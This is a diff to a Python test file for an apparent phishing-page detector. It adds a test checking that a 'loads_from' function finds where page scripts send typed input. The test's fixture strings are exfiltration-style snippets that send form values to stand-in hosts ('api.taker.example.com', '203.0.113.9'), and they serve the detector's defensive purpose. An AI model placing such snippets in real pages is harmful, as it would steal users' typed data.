@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from detectors.page.borrowing import assets, copying_marks
 from detectors.page.claims import claims_of
 from detectors.page.footer import host_lines, marks_of
-from detectors.page.forms import answers_itself, lookup_forms
+from detectors.page.forms import answers_itself, loads_from, lookup_forms
 from detectors.page.likeness import minhash, structure, structure_likeness, text_likeness
 from detectors.page.reference import Reference, reference_of
 from detectors.text.visible import parse
@@ -44,6 +44,11 @@ def test_lookup_forms(html: str, asks: set[str] | None) -> None:
     assert tree is not None
     forms = list(lookup_forms(tree))
     assert [set(f.asks) for f in forms] == ([asks] if asks else [])
+
+
+def test_where_scripts_send_what_was_typed() -> None:
+    scripts = ("fetch('https://api.taker.example.com/q?id='+v)", '$.post("//203.0.113.9/save", d)', "fetch('/own')")
+    assert loads_from(scripts) == ("api.taker.example.com", "203.0.113.9")
 
 
 def test_a_script_that_answers_itself() -> None:
